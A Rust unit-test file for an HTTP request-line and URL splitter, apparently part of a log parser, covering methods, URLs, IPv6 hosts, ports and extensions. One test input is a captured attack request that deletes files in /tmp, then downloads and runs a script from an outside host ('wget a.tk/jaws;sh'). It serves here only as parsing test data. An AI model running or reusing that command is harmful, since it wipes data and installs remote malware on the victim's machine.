//! Tests of `request`.

use super::*;

fn req(line: &str) -> (Option<&str>, Option<&str>, Option<&str>) {
    let r = split_request(line.as_bytes());
    fn s(o: Option<&[u8]>) -> Option<&str> {
        o.map(|b| std::str::from_utf8(b).unwrap())
    }
    (s(r.method), s(r.url), s(r.version))
}

#[test]
fn plain_request() {
    assert_eq!(
        req("GET http://www.example.com:80/ HTTP/1.1"),
        (Some("GET"), Some("http://www.example.com:80/"), Some("1.1"))
    );
}

#[test]
fn tcp_listener_request_is_all_absent() {
    assert_eq!(req("- - - "), (None, None, None));
    assert_eq!(req("- - -"), (None, None, None));
}

#[test]
fn url_with_spaces_splits_at_first_and_last_space() {
    assert_eq!(
        req("GET http://x/shell?cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh HTTP/1.1"),
        (
            Some("GET"),
            Some("http://x/shell?cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh"),
            Some("1.1")
        )
    );
}

#[test]
fn malformed_requests() {
    assert_eq!(
        req("- http://www.example.com:80- -"),
        (None, Some("http://www.example.com:80-"), None)
    );
    assert_eq!(
        req("- http://example.com:8080- "),
        (None, Some("http://example.com:8080-"), None)
    );
    assert_eq!(
        req("GET http://a:80/ HTTP/1.0 "),
        (Some("GET"), Some("http://a:80/"), Some("1.0"))
    );
}

#[test]
fn url_parts() {
    let u = split_url(b"https://user:pw@www.example.com:443/a/b.html?x=1&y=2");
    assert_eq!(u.scheme, Some(&b"https"[..]));
    assert_eq!(u.domain, Some(&b"www.example.com"[..]));
    assert_eq!(u.port, Some(&b"443"[..]));
    assert_eq!(u.path, Some(&b"/a/b.html"[..]));
    assert_eq!(u.query, Some(&b"x=1&y=2"[..]));
    assert_eq!(u.extension, Some(&b"html"[..]));
    let u = split_url(b"https://example.com");
    assert_eq!(
        (u.domain, u.port, u.path),
        (Some(&b"example.com"[..]), None, None)
    );
    let u = split_url(b"/transactions:search?q=1");
    assert_eq!(
        (u.scheme, u.path, u.query),
        (None, Some(&b"/transactions:search"[..]), Some(&b"q=1"[..]))
    );
}

#[test]
fn the_last_token_is_the_protocol_whatever_it_says() {
    assert_eq!(req("GET /a b FOO/2"), (Some("GET"), Some("/a b"), None));
    assert_eq!(
        req("GET /index.html x"),
        (Some("GET"), Some("/index.html"), None)
    );
    assert_eq!(req("GET /only"), (Some("GET"), Some("/only"), None));
}

#[test]
fn url_domain_keeps_ipv6_brackets() {
    let u = split_url(b"http://[2001:db8::1]:8080/x");
    assert_eq!(u.domain, Some(&b"[2001:db8::1]"[..]));
    assert_eq!(u.port, Some(&b"8080"[..]));
    let u = split_url(b"http://[2001:db8::1]/x");
    assert_eq!((u.domain, u.port), (Some(&b"[2001:db8::1]"[..]), None));
}

#[test]
fn url_extension_includes_dotfiles_and_long_extensions() {
    let ext = |u: &'static str| split_url(u.as_bytes()).extension;
    assert_eq!(ext("/.env"), Some(&b"env"[..]));
    assert_eq!(ext("/app/.git/config"), None);
    assert_eq!(ext("/a/b.tar.gz"), Some(&b"gz"[..]));
    let long = "/x.abcdefghijklmnopqrstuvwxyz012345";
    assert_eq!(ext(long), Some(&long.as_bytes()[3..]));
    assert_eq!(ext("/trailing."), None);
    assert_eq!(ext("/dir.d/file"), None);
}

#[test]
fn url_port_out_of_range_is_absent() {
    assert_eq!(split_url(b"http://a:65536/").port, None);
    assert_eq!(split_url(b"http://a:65535/").port, Some(&b"65535"[..]));
}
